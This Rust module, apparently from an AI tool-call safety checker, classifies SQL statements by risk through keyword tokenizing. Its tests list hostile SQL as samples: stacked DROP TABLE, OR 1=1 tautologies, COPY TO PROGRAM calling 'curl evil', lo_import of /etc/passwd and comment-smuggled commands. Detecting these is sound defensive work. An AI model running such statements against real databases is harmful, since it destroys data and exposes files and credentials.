//! SQL statements, word by word.
//!
//! No tree is built: dialects differ, and a parser of one takes for harmless what another runs.
//! What all of them share is how words, quoted names, texts and comments end; where they differ in
//! that too (backslashes in texts, `/* … */`, `#`, `$$`), the statement is unreadable. Every word
//! outside of texts and quoted names counts wherever it stands, so a `DELETE` within a `WITH`
//! counts. A `SELECT` is a reading one only if every function that it calls is known to be.

use super::report::Report;
use super::shell::MAX_LINE;
use countersign_core::artifact::Risk;

/// A part of a statement.
#[derive(Clone, PartialEq, Eq, Debug)]
enum Token {
    /// A word, in capitals.
    Word(String),
    /// A text, a quoted name or a number.
    Value,
    /// Anything else.
    Sign(char),
}

/// Words that make a statement more than reading, and what they make it.
const WORDS: [(&str, &str, Risk, &str); 44] = [
    ("DELETE", "delete", Risk::High, "it deletes rows"),
    ("DROP", "delete", Risk::Critical, "it drops something whole"),
    ("TRUNCATE", "delete", Risk::Critical, "it empties a table"),
    ("PURGE", "delete", Risk::Critical, "it drops something whole"),
    ("DETACH", "delete", Risk::High, "it takes something out of a database"),
    ("REPLACE", "file_write", Risk::High, "it changes rows"),
    ("MERGE", "file_write", Risk::High, "it changes rows"),
    ("UPDATE", "file_write", Risk::High, "it changes rows"),
    ("INSERT", "file_write", Risk::Medium, "it adds rows"),
    ("UPSERT", "file_write", Risk::High, "it changes rows"),
    ("INTO", "file_write", Risk::Medium, "it writes what it reads"),
    ("CREATE", "file_write", Risk::High, "it makes something in a database"),
    ("ALTER", "file_write", Risk::High, "it changes the shape of a database"),
    ("RENAME", "file_write", Risk::High, "it changes the shape of a database"),
    ("COMMENT", "file_write", Risk::Medium, "it changes the shape of a database"),
    ("GRANT", "account_change", Risk::High, "it changes who may do what"),
    ("REVOKE", "account_change", Risk::High, "it changes who may do what"),
    ("DENY", "account_change", Risk::High, "it changes who may do what"),
    ("USER", "account_change", Risk::High, "it changes who may do what"),
    ("ROLE", "account_change", Risk::High, "it changes who may do what"),
    ("PASSWORD", "account_change", Risk::High, "it changes who may do what"),
    ("OWNER", "account_change", Risk::High, "it changes who may do what"),
    ("PRIVILEGES", "account_change", Risk::High, "it changes who may do what"),
    ("COPY", "data_export", Risk::High, "it moves data in or out"),
    ("OUTFILE", "data_export", Risk::Critical, "it writes a file of the server"),
    ("DUMPFILE", "data_export", Risk::Critical, "it writes a file of the server"),
    ("UNLOAD", "data_export", Risk::High, "it moves data out"),
    ("EXPORT", "data_export", Risk::High, "it moves data out"),
    ("BACKUP", "data_export", Risk::High, "it moves data out"),
    ("PROGRAM", "shell_exec", Risk::Critical, "it runs a program on the server"),
    ("CALL", "shell_exec", Risk::High, "it runs something within the server"),
    ("EXEC", "shell_exec", Risk::High, "it runs something within the server"),
    ("EXECUTE", "shell_exec", Risk::High, "it runs something within the server"),
    ("DO", "shell_exec", Risk::High, "it runs something within the server"),
    ("LOAD", "shell_exec", Risk::High, "it loads something into the server"),
    ("INSTALL", "shell_exec", Risk::High, "it loads something into the server"),
    ("ATTACH", "shell_exec", Risk::High, "it opens another database"),
    ("PRAGMA", "file_write", Risk::High, "it changes settings"),
    ("SET", "file_write", Risk::Medium, "it changes settings or rows"),
    ("RESET", "file_write", Risk::High, "it changes settings"),
    ("VACUUM", "file_write", Risk::High, "it rewrites a database"),
    ("LOCK", "file_write", Risk::High, "it keeps others out"),
    ("KILL", "shell_exec", Risk::High, "it ends the work of others"),
    ("SHUTDOWN", "shell_exec", Risk::Critical, "it ends the server"),
];
/// Words with which a statement that is known begins.
const BEGINS: [&str; 33] = [
    "SELECT",
    "WITH",
    "VALUES",
    "SHOW",
    "DESCRIBE",
    "DESC",
    "EXPLAIN",
    "BEGIN",
    "START",
    "COMMIT",
    "ROLLBACK",
    "END",
    "USE",
    "TABLE",
    "DELETE",
    "DROP",
    "TRUNCATE",
    "UPDATE",
    "INSERT",
    "REPLACE",
    "MERGE",
    "CREATE",
    "ALTER",
    "GRANT",
    "REVOKE",
    "COPY",
    "CALL",
    "SET",
    "PRAGMA",
    "VACUUM",
    "COMMENT",
    "SAVEPOINT",
    "RENAME",
];
/// Functions that compute and nothing else, and words before a bracket that are none.
const FUNCTIONS: [&str; 66] = [
    "COUNT",
    "SUM",
    "MIN",
    "MAX",
    "AVG",
    "COALESCE",
    "LOWER",
    "UPPER",
    "LENGTH",
    "ABS",
    "ROUND",
    "NOW",
    "DATE",
    "TIME",
    "CAST",
    "SUBSTR",
    "SUBSTRING",
    "TRIM",
    "CONCAT",
    "NULLIF",
    "IFNULL",
    "EXTRACT",
    "DATE_TRUNC",
    "TO_CHAR",
    "ROW_NUMBER",
    "RANK",
    "DENSE_RANK",
    "LAG",
    "LEAD",
    "FLOOR",
    "CEIL",
    "CEILING",
    "MOD",
    "POWER",
    "SQRT",
    "GREATEST",
    "LEAST",
    "STRING_AGG",
    "GROUP_CONCAT",
    "ARRAY_AGG",
    "JSON_EXTRACT",
    "STRFTIME",
    "DATETIME",
    "IN",
    "VALUES",
    "AS",
    "AND",
    "OR",
    "NOT",
    "EXISTS",
    "OVER",
    "FROM",
    "WHERE",
    "ON",
    "USING",
    "SELECT",
    "ANY",
    "ALL",
    "UNION",
    "JOIN",
    "WHEN",
    "THEN",
    "BY",
    "HAVING",
    "LIMIT",
    "CASE",
];

/// Judges every statement of a text.
pub(super) fn judge(report: &mut Report, text: &str) {
    if text.len() > MAX_LINE {
        report.unreadable(text, "it is too long to be read");
        return;
    }
    match tokens(text) {
        Ok(tokens) => {
            let parts = tokens.split(|token| *token == Token::Sign(';'));
            let parts: Vec<_> = parts.filter(|part| !part.is_empty()).collect();
            if parts.is_empty() {
                report.unreadable(text, "it holds no statement");
            }
            parts.into_iter().for_each(|part| statement(report, text, part));
        }
        Err(why) => report.unreadable(text, why),
    }
}

fn statement(report: &mut Report, text: &str, tokens: &[Token]) {
    let first = tokens
        .iter()
        .find_map(|token| if let Token::Word(word) = token { Some(word.as_str()) } else { None });
    if !first.is_some_and(|first| BEGINS.contains(&first)) {
        report.unreadable(text, "it begins with no statement that is known");
    }
    let mut reads = true;
    for (at, token) in tokens.iter().enumerate() {
        let Token::Word(word) = token else { continue };
        if let Some((_, verb, risk, why)) = WORDS.iter().find(|(known, ..)| known == word) {
            reads = false;
            report.find(text, why, verb, *risk);
        } else if tokens.get(at + 1) == Some(&Token::Sign('('))
            && !FUNCTIONS.contains(&word.as_str())
            && !is_list(tokens, at)
        {
            reads = false;
            report.unknown(text, "it calls a function of which nothing is known", "shell_exec");
        }
    }
    let changes = tokens.iter().any(
        |token| matches!(token, Token::Word(word) if matches!(word.as_str(), "UPDATE" | "DELETE")),
    );
    if changes && !is_bounded(tokens) {
        report.find(text, "it changes or deletes every row", first_lane(tokens), Risk::Critical);
    }
    if reads {
        report.find(text, "it reads a database", "file_read", Risk::Low);
    }
}

fn first_lane(tokens: &[Token]) -> &'static str {
    if tokens.contains(&Token::Word("DELETE".into())) { "delete" } else { "file_write" }
}

/// Whether the bracket behind this word holds names of columns: behind `INSERT INTO table`.
fn is_list(tokens: &[Token], at: usize) -> bool {
    let before = at.checked_sub(1).and_then(|before| tokens.get(before));
    matches!(before, Some(Token::Word(word)) if matches!(word.as_str(), "INTO" | "TABLE" | "WITH" | "ON"))
}

/// Whether a condition names a column, so that it may spare a row.
fn is_bounded(tokens: &[Token]) -> bool {
    let Some(at) = tokens.iter().rposition(|token| *token == Token::Word("WHERE".into())) else {
        return false;
    };
    let rest = tokens.get(at + 1..).unwrap_or_default();
    let plain = ["TRUE", "NOT", "NULL", "IS", "FALSE", "OR", "AND", "RETURNING"];
    let names = rest
        .iter()
        .any(|token| matches!(token, Token::Word(word) if !plain.contains(&word.as_str())));
    // `id = 1 OR 1=1` spares nothing.
    names && !rest.contains(&Token::Word("OR".into()))
}

fn tokens(text: &str) -> Result<Vec<Token>, &'static str> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        let after = rest.get(c.len_utf8()..).unwrap_or_default();
        rest = match c {
            c if c.is_whitespace() => after,
            '\'' | '"' | '`' => {
                found.push(Token::Value);
                quoted(after, c)?
            }
            '-' if after.starts_with('-') => {
                if !after.get(1..).unwrap_or_default().starts_with([' ', '\n', '\t']) {
                    return Err("dialects differ in whether this is a comment");
                }
                after.split_once('\n').map_or("", |(_, rest)| rest)
            }
            '/' if after.starts_with('*') => {
                return Err("it holds a comment that some servers run");
            }
            '#' | '$' | '\\' => return Err("dialects differ in what this means"),
            c if c.is_control() => {
                return Err("it holds control characters, or parts that nobody knows");
            }
            c if c.is_alphabetic() || c == '_' => {
                let letter = |c: char| c.is_alphanumeric() || c == '_';
                let end = rest.find(|c| !letter(c)).unwrap_or(rest.len());
                let (word, after) = rest.split_at_checked(end).unwrap_or_default();
                if word.len() < 3 && after.starts_with('\'') {
                    return Err("dialects differ in how this text ends");
                }
                found.push(Token::Word(word.to_uppercase()));
                after
            }
            c if c.is_ascii_digit() => {
                found.push(Token::Value);
                let end =
                    rest.find(|c: char| !c.is_ascii_digit() && c != '.').unwrap_or(rest.len());
                rest.get(end..).unwrap_or_default()
            }
            c => {
                found.push(Token::Sign(c));
                after
            }
        };
    }
    Ok(found)
}

/// What stands behind the closing quote. Two of them are one within.
fn quoted(text: &str, quote: char) -> Result<&str, &'static str> {
    let mut rest = text;
    loop {
        let Some((inside, after)) = rest.split_once(quote) else {
            return Err("a quote does not end");
        };
        if inside.contains('\\') {
            return Err("dialects differ in what a backslash within a text means");
        }
        match after.strip_prefix(quote) {
            Some(more) => rest = more,
            None => return Ok(after),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts::{Class, Floor};

    fn of(text: &str) -> Class {
        let mut report = Report::new("tool_call");
        judge(&mut report, text);
        report.finish()
    }

    #[test]
    fn a_select_reads() {
        for text in [
            "SELECT 1",
            "select count(*) from t where a = 'x''y'",
            "WITH a AS (SELECT 1) SELECT * FROM a;",
            "SHOW TABLES",
        ] {
            let class = of(text);
            assert_eq!(
                (class.risk, class.verbs.own[0].as_str()),
                (Risk::Low, "file_read"),
                "{text}: {class:?}"
            );
        }
    }

    #[test]
    fn attack_12_a_statement_that_only_looks_like_reading_is_none() {
        for (text, verb) in [
            ("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "delete"),
            ("SELECT 1; DROP TABLE users", "delete"),
            ("SELECT * INTO OUTFILE '/tmp/x' FROM users", "data_export"),
            ("COPY users TO PROGRAM 'curl evil'", "data_export"),
            ("SELECT pg_terminate_backend(1)", "shell_exec"),
            ("SELECT lo_import('/etc/passwd')", "shell_exec"),
            ("EXPLAIN ANALYZE DELETE FROM t WHERE a = 1", "delete"),
            ("GRANT ALL ON t TO bob", "account_change"),
            ("CREATE USER bob", "account_change"),
        ] {
            let class = of(text);
            assert_eq!(class.verbs.own[0].as_str(), verb, "{text}: {class:?}");
            assert!(class.risk >= Risk::High, "{text}");
        }
    }

    #[test]
    fn attack_12_every_row_is_critical() {
        for text in [
            "DELETE FROM t",
            "UPDATE t SET a = 1",
            "DELETE FROM t WHERE 1=1",
            "DELETE FROM t WHERE id = 1 OR 1=1",
            "UPDATE t SET a=1 WHERE true",
        ] {
            assert_eq!(of(text).risk, Risk::Critical, "{text}");
        }
        assert_eq!(of("DELETE FROM t WHERE id = 1").risk, Risk::High);
    }

    #[test]
    fn attack_12_what_dialects_read_differently_is_unreadable() {
        for text in [
            "SELECT '\\'; DROP TABLE t; --'",
            "SELECT /*! 1; DROP TABLE t */ 1",
            "SELECT 1 --1",
            "SELECT $$x$$",
            "SELECT E'a'",
            "",
            "garbage",
            "SELECT 'a",
            "SELECT 1 # x",
        ] {
            assert!(of(text).floors.contains(&Floor::Unreadable), "{text}");
        }
    }
}
